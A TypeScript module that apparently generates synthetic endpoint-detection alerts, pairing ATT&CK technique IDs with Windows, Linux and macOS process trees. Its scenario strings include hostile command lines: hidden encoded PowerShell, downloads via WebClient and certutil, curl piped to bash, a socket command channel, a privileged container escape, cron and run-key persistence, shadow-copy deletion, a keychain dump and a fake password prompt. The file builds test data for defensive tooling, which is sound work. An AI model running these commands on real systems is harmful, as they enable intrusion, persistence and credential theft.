import { getTechnique, type Technique, type TechniqueId } from "./attack.ts"
import type { Random } from "./random.ts"
import { documents, makeEncodedScript } from "./text.ts"
import type { Host, Platform } from "./world.ts"

/** One process: its image and how it was called. */
export interface Process {
  readonly file: string
  readonly path: string
  readonly command: string
}

/** What a sensor saw: a process with its parents, and the pattern it matched. */
export interface Scene {
  readonly name: string
  readonly description: string
  readonly technique: Technique
  readonly pattern_id: number
  readonly process: Process
  readonly parent: Process
  readonly grandparent: Process
}

/** A scene before names are filled in; images and commands are written as `path | command`. */
interface Scenario {
  readonly platform: Platform
  readonly technique_id: TechniqueId
  readonly name: string
  readonly description: string
  /** Grandparent, parent, process. */
  readonly tree: readonly [string, string, string]
}

const system32 = String.raw`\Device\HarddiskVolume3\Windows\System32`
const explorer = String.raw`\Device\HarddiskVolume3\Windows\explorer.exe | C:\Windows\Explorer.EXE`
const services = String.raw`${system32}\services.exe | C:\Windows\system32\services.exe`
const svchost = String.raw`${system32}\svchost.exe | C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`
const cmd = String.raw`${system32}\cmd.exe | "C:\Windows\system32\cmd.exe" /d /c "cd /d C:\Users\{login}\Desktop && run.bat"`
const word = String.raw`\Device\HarddiskVolume3\Program Files\Microsoft Office\root\Office16\WINWORD.EXE | "C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{login}\Downloads\{document}" /o ""`
const powershell = String.raw`${system32}\WindowsPowerShell\v1.0\powershell.exe`
const systemd = "/usr/lib/systemd/systemd | /sbin/init"
const launchd = "/sbin/launchd | /sbin/launchd"
const terminal =
  "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal | /System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"

const scenarios: readonly Scenario[] = [
  {
    platform: "Windows",
    technique_id: "T1059.001",
    name: "SuspiciousEncodedPowerShell",
    description: "An Office document started PowerShell with an encoded command.",
    tree: [explorer, word, `${powershell} | powershell.exe -NoP -NonI -W Hidden -Enc {script}`],
  },
  {
    platform: "Windows",
    technique_id: "T1027",
    name: "ObfuscatedScriptBlock",
    description: "A PowerShell script block hides its text.\nReview the command line.",
    tree: [
      svchost,
      cmd,
      `${powershell} | powershell.exe -Command "& {\r\n\t$u = \\"http://{ip}/a?x=1&y=2\\"\r\n\t(New-Object Net.WebClient).DownloadString($u)\r\n}"`,
    ],
  },
  {
    platform: "Windows",
    technique_id: "T1218.011",
    name: "Rundll32UnusualExport",
    description: "Rundll32 called an export by its ordinal from a user's folder.",
    tree: [
      explorer,
      cmd,
      String.raw`${system32}\rundll32.exe | rundll32.exe "C:\Users\{login}\AppData\Local\Temp\{hex}.dll",#1`,
    ],
  },
  {
    platform: "Windows",
    technique_id: "T1105",
    name: "CertutilDownload",
    description: "Certutil fetched a file from the network.",
    tree: [
      word,
      cmd,
      String.raw`${system32}\certutil.exe | certutil -urlcache -split -f "http://{ip}/{hex}.txt" C:\ProgramData\{hex}.exe`,
    ],
  },
  {
    platform: "Windows",
    technique_id: "T1053.005",
    name: "ScheduledTaskPersistence",
    description: "A scheduled task starts a file out of a user's folder.",
    tree: [
      explorer,
      `${powershell} | "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"`,
      String.raw`${system32}\schtasks.exe | schtasks /create /tn "Обновление {hex}" /tr "\"C:\Users\{login}\AppData\Roaming\upd.exe\" -q" /sc minute /mo 5 /f`,
    ],
  },
  {
    platform: "Windows",
    technique_id: "T1547.001",
    name: "RunKeyWritten",
    description: "A run key was written that starts a script at logon.",
    tree: [
      explorer,
      cmd,
      String.raw`${system32}\reg.exe | reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {hex} /d "wscript C:\Users\{login}\{document}.js" /f`,
    ],
  },
  {
    platform: "Windows",
    technique_id: "T1490",
    name: "ShadowCopiesDeleted",
    description: "The volume's shadow copies were deleted, as ransomware does before it encrypts.",
    tree: [services, svchost, String.raw`${system32}\vssadmin.exe | vssadmin.exe delete shadows /all /quiet`],
  },
  {
    platform: "Windows",
    technique_id: "T1069.002",
    name: "DomainGroupDiscovery",
    description: "The members of a privileged group were listed.",
    tree: [explorer, cmd, String.raw`${system32}\net.exe | net  group "Domain Admins" /domain`],
  },
  {
    platform: "Linux",
    technique_id: "T1059.004",
    name: "PipedToShell",
    description: "A script from the network was piped into a shell.",
    tree: [
      systemd,
      "/usr/sbin/cron | /usr/sbin/CRON -f -P",
      `/usr/bin/bash | bash -c 'curl -s -d "{\\"offset\\":12345}" http://{ip}/{hex}.sh | bash'`,
    ],
  },
  {
    platform: "Linux",
    technique_id: "T1059.006",
    name: "PythonSocketShell",
    description: "An inline Python program opened a connection and read commands from it.",
    tree: [
      systemd,
      "/usr/bin/bash | -bash",
      `/usr/bin/python3.12 | /usr/bin/python3 -c "import socket\nfor line in socket.create_connection(('{ip}', 4444)).makefile():\n\tprint(line)"`,
    ],
  },
  {
    platform: "Linux",
    technique_id: "T1611",
    name: "PrivilegedContainerStarted",
    description: "A container was started with the host's file system in it.",
    tree: [
      systemd,
      "/usr/bin/containerd-shim-runc-v2 | /usr/bin/containerd-shim-runc-v2 -namespace moby -id {hex}{hex}",
      "/usr/bin/docker | /usr/bin/docker run --rm -it --privileged --pid=host -v /:/host registry.example.com/base:latest chroot /host",
    ],
  },
  {
    platform: "Linux",
    technique_id: "T1053.003",
    name: "CronEntryWritten",
    description: "A hidden file was put into the crontab.",
    tree: [
      systemd,
      "/usr/bin/bash | bash /tmp/.{hex}/инсталл.sh",
      `/usr/bin/crontab | /usr/bin/crontab -l | { cat; echo "*/5 * * * * /tmp/.{hex}/x"; }`,
    ],
  },
  {
    platform: "Mac",
    technique_id: "T1059.002",
    name: "AppleScriptPasswordPrompt",
    description: "A script asked for the user’s password in a dialog of its own.",
    tree: [
      launchd,
      "/bin/zsh | /bin/zsh -c ./安装.command",
      `/usr/bin/osascript | /usr/bin/osascript -e 'display dialog "macOS needs your password \u{1F512}" default answer "" with hidden answer'`,
    ],
  },
  {
    platform: "Mac",
    technique_id: "T1555.001",
    name: "KeychainDump",
    description: "The login keychain was read through the security tool.",
    tree: [terminal, "/bin/zsh | -zsh", "/usr/bin/security | /usr/bin/security dump-keychain login.keychain-db"],
  },
  {
    platform: "Mac",
    technique_id: "T1553.001",
    name: "QuarantineFlagRemoved",
    description: "The quarantine flag was taken off a downloaded file.",
    tree: [
      terminal,
      "/bin/bash | bash install.sh",
      `/usr/bin/xattr | /usr/bin/xattr -d com.apple.quarantine "/Users/{login}/Downloads/{document}"`,
    ],
  },
]

/** A scene that could happen on the host, with the names of its user in it. */
export function drawScene(random: Random, host: Host): Scene {
  const possible = scenarios.filter((scenario) => scenario.platform === host.platform)
  const scenario = random.pick(possible)
  const [grandparent, parent, process] = scenario.tree
  const names: Record<string, string> = {
    login: host.user.login,
    document: random.pick(documents),
    ip: random.ipv4(),
    hex: random.hex(8),
    script: makeEncodedScript(random, random.int(200, 1_200), "utf16le"),
  }
  const makeProcess = (line: string): Process => {
    const cut = line.indexOf(" | ")
    const path = line.slice(0, cut)
    const command = line.slice(cut + 3).replace(/\{(\w+)\}/g, (whole, name: string) => names[name] ?? whole)
    return { file: path.slice(Math.max(path.lastIndexOf("\\"), path.lastIndexOf("/")) + 1), path, command }
  }
  return {
    name: scenario.name,
    description: scenario.description,
    technique: getTechnique(scenario.technique_id),
    pattern_id: 10_000 + scenarios.indexOf(scenario) * 37,
    process: makeProcess(process),
    parent: makeProcess(parent),
    grandparent: makeProcess(grandparent),
  }
}
